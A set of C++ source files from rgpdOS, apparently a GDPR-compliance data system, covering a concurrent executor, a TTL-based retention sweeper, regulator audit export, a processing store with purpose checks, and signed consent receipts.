template <typename T>
class BoundedQueue {
 public:
  explicit BoundedQueue(std::size_t capacity)
      : capacity_(capacity == 0 ? 1 : capacity) {}

  /// False iff the queue was closed before space freed up (the item is
  /// dropped; producers should stop).
  bool Push(T item) {
    std::unique_lock<std::mutex> lock(mu_);
    cv_space_.wait(lock,
                   [this] { return closed_ || items_.size() < capacity_; });
    if (closed_) return false;
    items_.push_back(std::move(item));
    cv_items_.notify_one();
    return true;
  }

  /// False when the queue is closed AND drained.
  bool Pop(T& out) {
    std::unique_lock<std::mutex> lock(mu_);
    cv_items_.wait(lock, [this] { return closed_ || !items_.empty(); });
    if (items_.empty()) return false;
    out = std::move(items_.front());
    items_.pop_front();
    cv_space_.notify_one();
    return true;
  }

  void Close() {
    {
      std::lock_guard<std::mutex> lock(mu_);
      closed_ = true;
    }
    cv_items_.notify_all();
    cv_space_.notify_all();
  }

 private:
  const std::size_t capacity_;
  std::mutex mu_;
  std::condition_variable cv_items_;
  std::condition_variable cv_space_;
  std::deque<T> items_;
  bool closed_ = false;
};

class DedExecutor {
 public:
  /// `workers` pool threads (0 = inline-only executor); `boot_seed`
  /// derives each worker's deterministic RNG stream.
  DedExecutor(unsigned workers, std::uint64_t boot_seed);
  ~DedExecutor();
  DedExecutor(const DedExecutor&) = delete;
  DedExecutor& operator=(const DedExecutor&) = delete;

  /// Pool threads only; the caller lane makes it worker_count() + 1.
  [[nodiscard]] unsigned worker_count() const {
    return static_cast<unsigned>(threads_.size());
  }

  /// Run fn(shard) for every shard in [0, shards). Blocks until all
  /// shards completed. Safe to call from any number of threads
  /// concurrently; jobs are drained FIFO. Never called re-entrantly
  /// from inside `fn` (the DED does not nest pipelines).
  void ParallelFor(std::size_t shards,
                   const std::function<void(std::size_t)>& fn);

 private:
  struct Job {
    std::size_t shards = 0;
    const std::function<void(std::size_t)>* fn = nullptr;
    std::atomic<std::size_t> next{0};
    std::atomic<std::size_t> done{0};
    std::mutex done_mu;
    std::condition_variable done_cv;
  };

  void WorkerLoop(unsigned index);
  /// Claim-and-run shards of `job` until none are left; returns the
  /// number of shards this thread ran.
  static std::size_t Drain(Job& job);

  const std::uint64_t boot_seed_;
  std::mutex mu_;                 // guards queue_ + stop_ (scheduling only)
  std::condition_variable cv_;
  std::deque<std::shared_ptr<Job>> queue_;
  bool stop_ = false;
  std::vector<std::thread> threads_;
};

}  // namespace rgpdos::core
