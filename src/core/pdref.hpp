// PdRef — the opaque handle applications hold instead of personal data.
//
// "When a F_pd function wants to return some PD to the calling
// application, rgpdOS instead returns a reference or ID. Subsequently,
// the main application never manipulates real PD within its address
// space" (paper §2). A PdRef carries no PD bytes; it is only meaningful
// when passed back into ps_invoke.
#pragma once

#include <cstdint>
#include <string>

#include "dbfs/dbfs.hpp"

namespace rgpdos::core {

struct PdRef {
  dbfs::RecordId record_id = 0;
  std::string type_name;

  [[nodiscard]] bool valid() const { return record_id != 0; }

  friend bool operator==(const PdRef& a, const PdRef& b) {
    return a.record_id == b.record_id && a.type_name == b.type_name;
  }
};

}  // namespace rgpdos::core
