#include "core/regulator_export.hpp"

#include <functional>

#include "common/hex.hpp"
#include "common/json.hpp"
#include "sentinel/domain.hpp"

namespace rgpdos::core {

namespace {

/// Detail strings are operator-written ASCII; anything else survives as
/// \u00XX (via the shared escaper) so the output stays deterministic
/// and parseable.
using rgpdos::JsonEscape;

std::string Footer(std::uint64_t entries, const crypto::Sha256Digest& tail) {
  std::string out = "{\"entries\":";
  out += std::to_string(entries);
  out += ",\"chain_tail\":\"";
  out += HexEncode(ByteSpan(tail.data(), tail.size()));
  out += "\"}\n";
  return out;
}

}  // namespace

std::string RegulatorExporter::EntryJson(const LogEntry& entry) {
  std::string out = "{\"seq\":";
  out += std::to_string(entry.seq);
  out += ",\"at\":";
  out += std::to_string(entry.at);
  out += ",\"processing\":\"";
  out += JsonEscape(entry.processing);
  out += "\",\"purpose\":\"";
  out += JsonEscape(entry.purpose);
  out += "\",\"subject\":";
  out += std::to_string(entry.subject_id);
  out += ",\"record\":";
  out += std::to_string(entry.record_id);
  out += ",\"outcome\":\"";
  out += LogOutcomeName(entry.outcome);
  out += "\",\"detail\":\"";
  out += JsonEscape(entry.detail);
  out += "\",\"chain\":\"";
  out += HexEncode(ByteSpan(entry.chain.data(), entry.chain.size()));
  out += "\"}\n";
  return out;
}

std::string RegulatorExporter::AuditEntryJson(
    const sentinel::AuditEntry& entry) {
  std::string out = "{\"seq\":";
  out += std::to_string(entry.seq);
  out += ",\"at\":";
  out += std::to_string(entry.at);
  out += ",\"subject_domain\":\"";
  out += sentinel::DomainName(entry.request.subject);
  out += "\",\"object_domain\":\"";
  out += sentinel::DomainName(entry.request.object);
  out += "\",\"op\":\"";
  out += sentinel::OperationName(entry.request.op);
  out += "\",\"detail\":\"";
  out += JsonEscape(entry.request.detail);
  out += "\",\"allowed\":";
  out += entry.allowed ? "true" : "false";
  out += ",\"rule\":\"";
  out += JsonEscape(entry.rule);
  out += "\",\"chain\":\"";
  out += HexEncode(ByteSpan(entry.chain.data(), entry.chain.size()));
  out += "\"}\n";
  return out;
}

namespace {
Result<std::string> ExportFiltered(
    const ProcessingLog& log,
    const std::function<bool(const LogEntry&)>& want) {
  std::string out;
  std::uint64_t count = 0;
  crypto::Sha256Digest tail{};
  RGPD_RETURN_IF_ERROR(log.ForEach([&](const LogEntry& e) {
    tail = e.chain;
    if (!want(e)) return;
    out += RegulatorExporter::EntryJson(e);
    ++count;
  }));
  out += Footer(count, tail);
  return out;
}
}  // namespace

Result<std::string> RegulatorExporter::ExportSubject(
    dbfs::SubjectId subject) const {
  return ExportFiltered(*log_, [subject](const LogEntry& e) {
    return e.subject_id == subject;
  });
}

Result<std::string> RegulatorExporter::ExportPurpose(
    const std::string& purpose) const {
  return ExportFiltered(*log_, [&purpose](const LogEntry& e) {
    return e.purpose == purpose;
  });
}

Result<std::string> RegulatorExporter::ExportAll() const {
  return ExportFiltered(*log_, [](const LogEntry&) { return true; });
}

Result<std::string> RegulatorExporter::ExportAuditTrail(
    inodefs::InodeStore* store, inodefs::InodeId manifest_inode) {
  RGPD_ASSIGN_OR_RETURN(
      std::vector<sentinel::AuditEntry> entries,
      sentinel::DurableAuditPipeline::LoadEntries(store, manifest_inode));
  std::string out;
  crypto::Sha256Digest tail{};
  for (const sentinel::AuditEntry& e : entries) {
    out += AuditEntryJson(e);
    tail = e.chain;
  }
  out += Footer(entries.size(), tail);
  return out;
}

}  // namespace rgpdos::core
