// Sentinel retention sweeper — proactive enforcement of the GDPR's
// storage-limitation principle (Art. 5(1)(e)).
//
// The membrane carries a time-to-live, but Membrane::Evaluate enforces
// it only *lazily*: PD that is never accessed again would outlive its
// TTL indefinitely on the raw medium, in the caches and in the audit
// trail. The sweeper converts expiry from a read-path check into a
// system invariant: a background compliance daemon incrementally scans
// the DBFS subject tree and proactively erases every record whose TTL
// has elapsed — a journaled hard delete (or crypto-erasure envelope, in
// crypto mode), which structurally invalidates the block cache
// (InvalidateCached on every scrubbed block) and the decoded-record
// cache (generation bump) before it acknowledges, exactly like a
// subject-initiated erasure. With the daemon running, expired PD bytes
// are absent from the medium within one sweep period.
//
// Pacing: the scan is paged (one page = one subject's subtree) under a
// token bucket refilled with `pages_per_sweep` tokens per sweep, and it
// yields between pages while foreground ps_invoke traffic is in flight
// (the `foreground_busy` hook), so compliance work never starves the
// application. A sweep that runs out of tokens simply resumes from its
// cursor at the next tick.
//
// Crash safety: each expiry is an ordinary journaled DBFS transaction
// (the same HardDelete / ReplaceWithEnvelope paths the rights engine
// uses), so the every-write crash harness applies unchanged — a crash
// mid-sweep leaves each expiry either fully applied (plaintext
// unrecoverable) or fully absent, never half-done, and the next sweep
// re-finds whatever was not reaped.
//
// Metrics: sentinel.retention.{scanned,expired,erased,deferred,sweeps,
// errors,yields} counters and a sentinel.retention.sweep_latency_ns
// histogram.
#pragma once

#include <atomic>
#include <condition_variable>
#include <functional>
#include <mutex>
#include <thread>

#include "common/clock.hpp"
#include "core/executor.hpp"
#include "core/processing_log.hpp"
#include "crypto/rsa.hpp"
#include "crypto/secure_random.hpp"
#include "dbfs/dbfs.hpp"
#include "metrics/lock.hpp"
#include "sentinel/audit.hpp"

namespace rgpdos::core {

struct RetentionOptions {
  /// Daemon period between sweeps (wall time; expiry itself is judged
  /// against the injected Clock, which may be simulated).
  std::uint64_t sweep_interval_micros = 1'000'000;
  /// Token-bucket refill per sweep: how many pages (one page = one
  /// subject's subtree) a single sweep may scan. 0 = unlimited.
  std::size_t pages_per_sweep = 64;
  /// Token-bucket capacity; unused budget carries over up to this burst.
  /// 0 = 2 * pages_per_sweep.
  std::size_t burst_pages = 0;
  /// Erase flavour: false = journaled hard delete (physical scrub),
  /// true = crypto-erasure (seal to the authority, like EraseWithHold).
  /// Crypto mode requires authority_key + rng deps.
  bool crypto_erase = false;
};

/// What one sweep did (also accumulated on the sweeper's totals).
struct SweepReport {
  std::uint64_t pages = 0;     ///< subjects scanned
  std::uint64_t scanned = 0;   ///< live membranes inspected
  std::uint64_t expired = 0;   ///< live records found past their TTL
  std::uint64_t erased = 0;    ///< expiries applied end-to-end
  std::uint64_t deferred = 0;  ///< expired but held back (Art. 18
                               ///< restriction, or a transient erase error)
  bool yielded = false;        ///< stopped early for foreground traffic
  bool wrapped = false;        ///< the cursor completed a full cycle
};

class RetentionSweeper {
 public:
  /// Borrowed collaborators. `audit`, `log`, `foreground_busy` are
  /// optional; `authority_key` + `rng` are required only in crypto mode
  /// (the crash harness runs the sweeper bare: dbfs + clock only).
  struct Deps {
    dbfs::DbfsApi* dbfs = nullptr;
    const Clock* clock = nullptr;
    sentinel::AuditSink* audit = nullptr;
    ProcessingLog* log = nullptr;
    const crypto::RsaPublicKey* authority_key = nullptr;
    crypto::SecureRandom* rng = nullptr;
    /// Optional DED worker pool: a sweep then fans its page batch over
    /// the pool's lanes (the sweeping thread helps drain, like any
    /// ParallelFor caller). Null = pages sweep sequentially.
    DedExecutor* executor = nullptr;
    /// Returns true while foreground work (ps_invoke) is in flight; the
    /// sweeper then yields the rest of its sweep.
    std::function<bool()> foreground_busy;
  };

  RetentionSweeper(Deps deps, RetentionOptions options);
  ~RetentionSweeper();
  RetentionSweeper(const RetentionSweeper&) = delete;
  RetentionSweeper& operator=(const RetentionSweeper&) = delete;

  /// One incremental sweep, inline on the calling thread (the daemon
  /// calls exactly this). Scans pages until the token bucket runs dry,
  /// the cursor wraps, or foreground traffic demands a yield.
  Result<SweepReport> SweepOnce();

  /// Start / stop the background daemon (idempotent). Boot starts it
  /// when BootConfig::retention_enabled is set.
  void Start();
  void Stop();
  [[nodiscard]] bool running() const;

  [[nodiscard]] const RetentionOptions& options() const { return options_; }

  // Lifetime totals (all sweeps), for tests and benches to poll.
  [[nodiscard]] std::uint64_t total_scanned() const {
    return total_scanned_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t total_expired() const {
    return total_expired_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t total_erased() const {
    return total_erased_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t total_deferred() const {
    return total_deferred_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t sweep_count() const {
    return sweep_count_.load(std::memory_order_relaxed);
  }

 private:
  /// Scan one subject's subtree; erases expired records as it goes.
  Status SweepSubject(dbfs::SubjectId subject, TimeMicros now,
                      SweepReport& report);
  /// Apply one expiry end-to-end (erase + audit + processing log).
  Status EraseExpired(const dbfs::PdRecord& record);
  void Audit(bool allowed, const std::string& rule, std::string detail);
  void DaemonLoop();

  const Deps deps_;
  const RetentionOptions options_;

  /// Serialises sweeps (daemon vs. manual SweepOnce) and guards cursor_
  /// + tokens_. Outermost rank: held across the whole page, which takes
  /// every lock on the erasure path underneath.
  mutable metrics::OrderedMutex sweep_mu_{metrics::LockRank::kRetention,
                                          "sentinel.retention"};
  dbfs::SubjectId cursor_ = 0;  // last subject swept; 0 = start of cycle
  std::size_t tokens_ = 0;

  std::atomic<std::uint64_t> total_scanned_{0};
  std::atomic<std::uint64_t> total_expired_{0};
  std::atomic<std::uint64_t> total_erased_{0};
  std::atomic<std::uint64_t> total_deferred_{0};
  std::atomic<std::uint64_t> sweep_count_{0};

  // Daemon plumbing (plain mutex: never held while sweeping).
  std::mutex thread_mu_;
  std::condition_variable thread_cv_;
  bool stop_ = false;
  std::thread thread_;
};

}  // namespace rgpdos::core
