// Processing Store (PS) — "the only rgpdOS entry point. Its public
// interface consists of two functions: ps_register and ps_invoke"
// (paper §2).
//
// ps_register checks each registration: an implementation without a
// purpose is rejected; a purpose that does not match the implementation
// raises an ALERT that requires explicit sysadmin approval before the
// processing becomes invocable. ps_invoke instantiates a DED and runs
// the pipeline; applications never reach DBFS any other way.
//
// Thread-safety: the registration table, alert table and collection
// sources serialise on one lock at the TOP of the stack-wide order
// (rank kCore — see metrics/lock.hpp). Invoke holds it only to COPY the
// stored processing out (purpose, fn handle, manifest fields), so N
// application threads run their DED pipelines concurrently without
// serialising on the PS; the runtime purpose verifier re-finds the
// processing under the lock afterwards and tolerates it having been
// rejected meanwhile.
#pragma once

#include <map>
#include <mutex>
#include <vector>

#include "core/ded.hpp"
#include "core/processing.hpp"
#include "metrics/lock.hpp"

namespace rgpdos::core {

/// Simulated collection source: given a collection interface (web form /
/// third-party script), produce freshly collected (subject, row) pairs.
/// Paper: "rgpdOS leaves the configuration of the collection interface
/// (e.g., web form) to the data operator."
using CollectionSource = std::function<Result<
    std::vector<std::pair<dbfs::SubjectId, db::Row>>>(
    const membrane::CollectionInterface&)>;

/// A pending purpose-mismatch alert. `runtime` distinguishes alerts
/// raised by the registration-time manifest check from those raised by
/// the runtime verifier observing the implementation's actual reads.
struct Alert {
  std::uint64_t id = 0;
  ProcessingId processing = 0;
  std::string reason;
  bool resolved = false;
  bool approved = false;
  bool runtime = false;
};

class ProcessingStore {
 public:
  /// `executor` may be null: invokes then run their pipeline
  /// single-lane (the pre-parallel behaviour). `memoize_decisions` is
  /// handed to every DED this store instantiates (see ded.hpp).
  ProcessingStore(dbfs::DbfsApi* dbfs, sentinel::Sentinel* sentinel,
                  ProcessingLog* log, const Clock* clock,
                  DedExecutor* executor = nullptr,
                  bool memoize_decisions = true)
      : dbfs_(dbfs),
        sentinel_(sentinel),
        log_(log),
        clock_(clock),
        executor_(executor),
        memoize_decisions_(memoize_decisions) {}

  // ---- ps_register -----------------------------------------------------------

  /// Register a data processing = (purpose declaration, implementation,
  /// implementation manifest). Returns the processing id. If the
  /// manifest does not match the purpose, the id is returned but the
  /// processing stays PENDING until the sysadmin approves the alert.
  Result<ProcessingId> Register(sentinel::Domain caller,
                                dsl::PurposeDecl purpose, ProcessingFn fn,
                                ImplManifest manifest);

  /// Pending alerts (sysadmin console).
  [[nodiscard]] std::vector<Alert> PendingAlerts() const;
  Status ApproveAlert(sentinel::Domain caller, std::uint64_t alert_id);
  Status RejectAlert(sentinel::Domain caller, std::uint64_t alert_id);

  // ---- ps_invoke -------------------------------------------------------------

  Result<InvokeResult> Invoke(sentinel::Domain caller, ProcessingId id,
                              const InvokeOptions& options = {});

  /// Register a simulated collection source under a method name
  /// ("web_form", "third_party", ...).
  void RegisterCollectionSource(std::string method, CollectionSource source);

  // ---- introspection -----------------------------------------------------------

  [[nodiscard]] std::size_t processing_count() const {
    std::lock_guard<metrics::OrderedMutex> lock(mu_);
    return processings_.size();
  }
  /// Invokes currently running their DED pipeline. Lock-free; the
  /// retention sweeper reads this as its foreground-backpressure signal
  /// (it yields between pages while application traffic is in flight).
  [[nodiscard]] std::uint64_t invokes_in_flight() const {
    return invokes_in_flight_.load(std::memory_order_relaxed);
  }
  /// The pointer stays valid until the processing is erased by
  /// RejectAlert — treat as a quiescent-time interface.
  Result<const dsl::PurposeDecl*> GetPurpose(ProcessingId id) const;
  [[nodiscard]] bool IsActive(ProcessingId id) const;

 private:
  struct StoredProcessing {
    dsl::PurposeDecl purpose;
    ProcessingFn fn;
    ImplManifest manifest;
    bool active = false;    ///< false while an alert is pending/rejected
    /// Runtime purpose verification (paper §3(4), attacked dynamically):
    /// until the implementation has been observed `kVerificationRuns`
    /// times reading only manifest-declared fields, every invocation is
    /// traced. An out-of-manifest read deactivates the processing and
    /// raises a runtime alert for the sysadmin.
    std::uint32_t verified_runs = 0;
  };
  static constexpr std::uint32_t kVerificationRuns = 3;

  /// The purpose-vs-implementation "match" check (paper §2 / §3(4)).
  Result<std::string> CheckPurposeMatch(const dsl::PurposeDecl& purpose,
                                        const ImplManifest& manifest) const;

  Status RunCollection(const dsl::PurposeDecl& purpose,
                       const std::string& method);

  dbfs::DbfsApi* dbfs_;             // borrowed
  sentinel::Sentinel* sentinel_; // borrowed
  ProcessingLog* log_;           // borrowed
  const Clock* clock_;           // borrowed
  DedExecutor* executor_;        // borrowed; null = single-lane invokes
  bool memoize_decisions_;       ///< forwarded to each DED instance

  /// Guards everything below. Rank kCore: outermost, so a holder may
  /// still call any lower layer (sentinel, log, dbfs, ...).
  mutable metrics::OrderedMutex mu_{metrics::LockRank::kCore, "core.ps"};
  std::map<ProcessingId, StoredProcessing> processings_;
  std::atomic<std::uint64_t> invokes_in_flight_{0};
  std::vector<Alert> alerts_;
  std::map<std::string, CollectionSource> collection_sources_;
  ProcessingId next_id_ = 1;
  std::uint64_t next_alert_id_ = 1;
};

}  // namespace rgpdos::core
