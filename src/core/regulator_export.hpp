// Regulator export — the structured evidence bundle a supervisory
// authority receives (paper §4: the right of access requires "information
// about executed processings for each piece of PD").
//
// Output is deterministic JSONL: one object per log entry in sequence
// order, then one footer object with the entry count and the hash-chain
// tail. Determinism is the point — the export is derived from the
// durable chained log, so exporting before a crash/restart and after a
// verified remount yields BYTE-IDENTICAL output, and a regulator can
// diff two exports or re-verify the chain tail offline.
#pragma once

#include <string>

#include "core/processing_log.hpp"
#include "sentinel/audit_pipeline.hpp"

namespace rgpdos::core {

class RegulatorExporter {
 public:
  explicit RegulatorExporter(const ProcessingLog* log) : log_(log) {}

  /// Every processing that touched `subject`'s PD, as JSONL + footer.
  Result<std::string> ExportSubject(dbfs::SubjectId subject) const;
  /// Every processing executed under `purpose`.
  Result<std::string> ExportPurpose(const std::string& purpose) const;
  /// The whole processing history.
  Result<std::string> ExportAll() const;

  /// The durable enforcement-decision trail (sealed audit segments +
  /// active tail), chain-verified, as JSONL + footer. Static: reads the
  /// store directly, so it also works on a freshly remounted image.
  static Result<std::string> ExportAuditTrail(
      inodefs::InodeStore* store, inodefs::InodeId manifest_inode);

  /// One processing-log entry as a deterministic single-line JSON
  /// object (exposed for tests).
  static std::string EntryJson(const LogEntry& entry);
  static std::string AuditEntryJson(const sentinel::AuditEntry& entry);

 private:
  const ProcessingLog* log_;  // borrowed
};

}  // namespace rgpdos::core
