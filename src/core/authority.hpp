// The supervisory authority (simulated). Paper §4: "rgpdOS assumes a
// model in which each data operator owns a public encryption key given
// to them by the authorities who keep the private key." The operator
// side of the system only ever sees `public_key()`; recovery of erased
// PD happens here, on the authority's side of the trust boundary.
#pragma once

#include "common/status.hpp"
#include "crypto/envelope.hpp"
#include "crypto/rsa.hpp"

namespace rgpdos::core {

class Authority {
 public:
  /// Generate the escrow keypair. 1024-bit default keeps tests fast;
  /// pass 2048+ for realistic benches.
  static Result<Authority> Create(crypto::SecureRandom& rng,
                                  std::size_t modulus_bits = 1024);

  /// The only thing the data operator receives.
  [[nodiscard]] const crypto::RsaPublicKey& public_key() const {
    return keypair_.public_key;
  }

  /// Decrypt an erased record's envelope (legal-investigation path).
  Result<Bytes> Recover(ByteSpan serialized_envelope) const;

 private:
  explicit Authority(crypto::RsaKeyPair keypair)
      : keypair_(std::move(keypair)) {}
  crypto::RsaKeyPair keypair_;
};

}  // namespace rgpdos::core
