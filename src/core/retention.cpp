#include "core/retention.hpp"

#include <algorithm>
#include <chrono>
#include <limits>
#include <vector>

#include "crypto/envelope.hpp"
#include "metrics/metrics.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;
}

RetentionSweeper::RetentionSweeper(Deps deps, RetentionOptions options)
    : deps_(std::move(deps)), options_(options) {}

RetentionSweeper::~RetentionSweeper() { Stop(); }

void RetentionSweeper::Start() {
  std::lock_guard<std::mutex> lock(thread_mu_);
  if (thread_.joinable()) return;
  stop_ = false;
  thread_ = std::thread([this] { DaemonLoop(); });
}

void RetentionSweeper::Stop() {
  {
    std::lock_guard<std::mutex> lock(thread_mu_);
    if (!thread_.joinable()) return;
    stop_ = true;
  }
  thread_cv_.notify_all();
  thread_.join();
  std::lock_guard<std::mutex> lock(thread_mu_);
  thread_ = std::thread();
}

bool RetentionSweeper::running() const {
  std::lock_guard<std::mutex> lock(
      const_cast<RetentionSweeper*>(this)->thread_mu_);
  return thread_.joinable();
}

void RetentionSweeper::DaemonLoop() {
  std::unique_lock<std::mutex> lock(thread_mu_);
  while (!stop_) {
    if (thread_cv_.wait_for(
            lock, std::chrono::microseconds(options_.sweep_interval_micros),
            [this] { return stop_; })) {
      break;
    }
    lock.unlock();
    if (const auto report = SweepOnce(); !report.ok()) {
      RGPD_METRIC_COUNT("sentinel.retention.errors");
    }
    lock.lock();
  }
}

Result<SweepReport> RetentionSweeper::SweepOnce() {
  std::lock_guard<metrics::OrderedMutex> lock(sweep_mu_);
  RGPD_METRIC_SCOPED_LATENCY("sentinel.retention.sweep_latency_ns");
  sweep_count_.fetch_add(1, std::memory_order_relaxed);
  RGPD_METRIC_COUNT("sentinel.retention.sweeps");

  // Refill the token bucket; unused budget carries over up to the burst
  // cap, so a quiet period buys headroom for a backlog.
  constexpr std::size_t kUnlimited = std::numeric_limits<std::size_t>::max();
  if (options_.pages_per_sweep == 0) {
    tokens_ = kUnlimited;
  } else {
    const std::size_t burst = options_.burst_pages != 0
                                  ? options_.burst_pages
                                  : 2 * options_.pages_per_sweep;
    tokens_ = std::min(burst, tokens_ + options_.pages_per_sweep);
  }

  SweepReport report;
  const TimeMicros now = deps_.clock->Now();
  // With a worker pool, one batch = one lane per subject; without, one
  // subject at a time (identical to the pre-executor behaviour).
  const std::size_t lanes =
      deps_.executor != nullptr ? deps_.executor->worker_count() + 1 : 1;
  while (tokens_ > 0) {
    if (deps_.foreground_busy && deps_.foreground_busy()) {
      // Backpressure: application traffic is in flight — give the rest
      // of this sweep back; the cursor resumes at the next tick.
      report.yielded = true;
      RGPD_METRIC_COUNT("sentinel.retention.yields");
      break;
    }
    const std::size_t batch =
        tokens_ == kUnlimited ? lanes : std::min(tokens_, lanes);
    RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::SubjectId> page,
                          deps_.dbfs->SubjectsAfter(kDed, cursor_, batch));
    if (page.empty()) {
      cursor_ = 0;
      report.wrapped = true;
      break;
    }
    if (tokens_ != kUnlimited) tokens_ -= page.size();
    report.pages += page.size();
    cursor_ = page.back();
    if (deps_.executor == nullptr || page.size() == 1) {
      for (const dbfs::SubjectId subject : page) {
        RGPD_RETURN_IF_ERROR(SweepSubject(subject, now, report));
      }
    } else {
      std::vector<SweepReport> shard_reports(page.size());
      std::vector<Status> shard_status(page.size(), Status::Ok());
      deps_.executor->ParallelFor(page.size(), [&](std::size_t i) {
        shard_status[i] = SweepSubject(page[i], now, shard_reports[i]);
      });
      for (const SweepReport& shard : shard_reports) {
        report.scanned += shard.scanned;
        report.expired += shard.expired;
        report.erased += shard.erased;
        report.deferred += shard.deferred;
      }
      for (const Status& s : shard_status) {
        RGPD_RETURN_IF_ERROR(s);
      }
    }
  }

  total_scanned_.fetch_add(report.scanned, std::memory_order_relaxed);
  total_expired_.fetch_add(report.expired, std::memory_order_relaxed);
  total_erased_.fetch_add(report.erased, std::memory_order_relaxed);
  total_deferred_.fetch_add(report.deferred, std::memory_order_relaxed);
  RGPD_METRIC_COUNT_N("sentinel.retention.scanned", report.scanned);
  RGPD_METRIC_COUNT_N("sentinel.retention.expired", report.expired);
  RGPD_METRIC_COUNT_N("sentinel.retention.erased", report.erased);
  RGPD_METRIC_COUNT_N("sentinel.retention.deferred", report.deferred);
  return report;
}

Status RetentionSweeper::SweepSubject(dbfs::SubjectId subject, TimeMicros now,
                                      SweepReport& report) {
  RGPD_ASSIGN_OR_RETURN(std::vector<dbfs::RecordId> ids,
                        deps_.dbfs->RecordsOfSubject(kDed, subject));
  for (const dbfs::RecordId id : ids) {
    const Result<dbfs::PdRecord> record = deps_.dbfs->Get(kDed, id);
    if (!record.ok()) {
      // Deleted between the listing and the read — someone else already
      // did our job. Anything else is a store problem the sweep surfaces.
      if (record.status().code() == StatusCode::kNotFound) continue;
      return record.status();
    }
    ++report.scanned;
    if (record->erased || !record->membrane.ExpiredAt(now)) continue;
    ++report.expired;
    if (record->membrane.restricted) {
      // Art. 18: the subject wants the PD preserved (contested accuracy,
      // a legal claim). Restriction outranks expiry — hold the bytes and
      // let a later sweep reap them once the restriction lifts.
      ++report.deferred;
      Audit(false, "retention-hold-restricted",
            "record=" + std::to_string(id) +
                " subject=" + std::to_string(subject) + " expired but " +
                record->membrane.restriction_reason);
      continue;
    }
    if (const Status erase = EraseExpired(*record); !erase.ok()) {
      // A power cut mid-erase ends the sweep (the journal guarantees the
      // expiry is all-or-nothing); a transient failure defers the record
      // to the next cycle.
      if (erase.code() == StatusCode::kCrashed) return erase;
      ++report.deferred;
      RGPD_METRIC_COUNT("sentinel.retention.errors");
      continue;
    }
    ++report.erased;
  }
  return Status::Ok();
}

Status RetentionSweeper::EraseExpired(const dbfs::PdRecord& record) {
  if (options_.crypto_erase) {
    if (deps_.authority_key == nullptr || deps_.rng == nullptr) {
      return FailedPrecondition(
          "retention crypto_erase needs an authority key and an RNG");
    }
    RGPD_ASSIGN_OR_RETURN(const dsl::TypeDecl* type,
                          deps_.dbfs->GetType(kDed, record.type_name));
    const Bytes plaintext = type->ToSchema().EncodeRow(record.row);
    RGPD_ASSIGN_OR_RETURN(
        crypto::Envelope envelope,
        crypto::Seal(*deps_.authority_key, plaintext, *deps_.rng));
    RGPD_RETURN_IF_ERROR(deps_.dbfs->ReplaceWithEnvelope(
        kDed, record.record_id, envelope.Serialize()));
  } else {
    RGPD_RETURN_IF_ERROR(deps_.dbfs->HardDelete(kDed, record.record_id));
  }
  Audit(true, "retention-ttl",
        "record=" + std::to_string(record.record_id) +
            " subject=" + std::to_string(record.subject_id) +
            " ttl=" + std::to_string(record.membrane.ttl));
  if (deps_.log != nullptr) {
    deps_.log->Append("sentinel.retention", "storage_limitation",
                      record.subject_id, record.record_id,
                      LogOutcome::kErased,
                      options_.crypto_erase ? "ttl crypto-erase"
                                            : "ttl hard-delete");
  }
  return Status::Ok();
}

void RetentionSweeper::Audit(bool allowed, const std::string& rule,
                             std::string detail) {
  if (deps_.audit == nullptr) return;
  sentinel::AuditEntry entry;
  entry.at = deps_.clock->Now();
  entry.request.subject = kDed;
  entry.request.object = sentinel::Domain::kDbfs;
  entry.request.op = sentinel::Operation::kErase;
  entry.request.detail = std::move(detail);
  entry.allowed = allowed;
  entry.rule = rule;
  deps_.audit->Record(std::move(entry));
}

}  // namespace rgpdos::core
