#include "core/receipts.hpp"

namespace rgpdos::core {

namespace {
Bytes SignedPayload(const ConsentReceipt& receipt) {
  ByteWriter w;
  w.PutU64(receipt.subject_id);
  w.PutU64(receipt.record_id);
  w.PutString(receipt.purpose);
  w.PutString(receipt.action);
  w.PutString(receipt.scope);
  w.PutI64(receipt.issued_at);
  w.PutU64(receipt.membrane_version);
  return w.Take();
}
}  // namespace

Bytes ConsentReceipt::Serialize() const {
  ByteWriter w;
  w.PutRaw(SignedPayload(*this));
  w.PutRaw(ByteSpan(signature.data(), signature.size()));
  return w.Take();
}

Result<ConsentReceipt> ConsentReceipt::Deserialize(ByteSpan bytes) {
  ByteReader r(bytes);
  ConsentReceipt receipt;
  RGPD_ASSIGN_OR_RETURN(receipt.subject_id, r.GetU64());
  RGPD_ASSIGN_OR_RETURN(receipt.record_id, r.GetU64());
  RGPD_ASSIGN_OR_RETURN(receipt.purpose, r.GetString());
  RGPD_ASSIGN_OR_RETURN(receipt.action, r.GetString());
  RGPD_ASSIGN_OR_RETURN(receipt.scope, r.GetString());
  RGPD_ASSIGN_OR_RETURN(receipt.issued_at, r.GetI64());
  RGPD_ASSIGN_OR_RETURN(receipt.membrane_version, r.GetU64());
  RGPD_ASSIGN_OR_RETURN(Bytes sig, r.GetRaw(crypto::kSha256DigestSize));
  std::copy(sig.begin(), sig.end(), receipt.signature.begin());
  return receipt;
}

crypto::Sha256Digest ReceiptIssuer::Sign(
    const ConsentReceipt& receipt) const {
  return crypto::HmacSha256(key_, SignedPayload(receipt));
}

ConsentReceipt ReceiptIssuer::Issue(std::uint64_t subject,
                                    dbfs::RecordId record,
                                    std::string purpose, std::string action,
                                    std::string scope,
                                    std::uint64_t membrane_version) const {
  ConsentReceipt receipt;
  receipt.subject_id = subject;
  receipt.record_id = record;
  receipt.purpose = std::move(purpose);
  receipt.action = std::move(action);
  receipt.scope = std::move(scope);
  receipt.issued_at = clock_->Now();
  receipt.membrane_version = membrane_version;
  receipt.signature = Sign(receipt);
  return receipt;
}

bool ReceiptIssuer::Verify(const ConsentReceipt& receipt) const {
  return crypto::DigestEqual(Sign(receipt), receipt.signature);
}

}  // namespace rgpdos::core
