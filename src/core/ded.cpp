#include "core/ded.hpp"

#include <algorithm>

#include "metrics/metrics.hpp"
#include "metrics/trace.hpp"

namespace rgpdos::core {

namespace {
constexpr sentinel::Domain kDed = sentinel::Domain::kDed;
}

Result<db::Value> ProcessingInput::Field(std::string_view field) const {
  if (!Has(field)) {
    return ConsentDenied("field '" + std::string(field) +
                         "' is outside the consented scope");
  }
